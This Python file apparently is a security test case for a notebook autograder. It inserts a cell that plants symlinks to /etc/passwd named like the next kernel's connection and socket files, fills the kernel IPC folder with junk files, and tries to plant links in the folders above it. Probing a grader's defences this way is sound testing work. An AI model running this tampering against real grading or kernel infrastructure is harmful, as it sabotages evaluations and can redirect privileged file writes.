"""Tampers with the folder the grader uses to talk to kernels: links named like the next kernel's
connection file and sockets, and a pile of files, so that later kernels fail to start or the
grader writes through a link."""
EXPECT_TOTAL = 0
BASE = "release"
ATTACK = r'''
import json, os
try:
    from ipykernel.connect import get_connection_file
    _info = json.load(open(get_connection_file()))
    _ipc = os.path.dirname(_info["ip"])
except Exception as _e:
    _ipc = None
    print("no connection info:", _e)
if _ipc:
    _made = 0
    for _name in ["connection.json"] + [f"kernel-{i}" for i in range(1, 40)] + \
            [os.path.basename(_info["ip"]) + f"-{i}" for i in range(1, 40)]:
        try:
            _p = os.path.join(_ipc, _name)
            if not os.path.lexists(_p):
                os.symlink("/etc/passwd", _p)
                _made += 1
        except OSError:
            pass
    for _i in range(200):
        try:
            with open(os.path.join(_ipc, f"junk-{_i}"), "wb") as _fh:
                _fh.write(b"0" * 2**20)
        except OSError:
            break
    for _up in (os.path.dirname(_ipc), os.path.dirname(os.path.dirname(_ipc))):
        try:
            os.symlink("/etc/passwd", os.path.join(_up, "connection.json"))
            print("wrote above the IPC folder:", _up)
        except OSError:
            pass
    print("planted", _made, "links in", _ipc)
'''
def mutate(nb):
    import nbformat
    nb.cells.insert(2, nbformat.v4.new_code_cell(ATTACK))
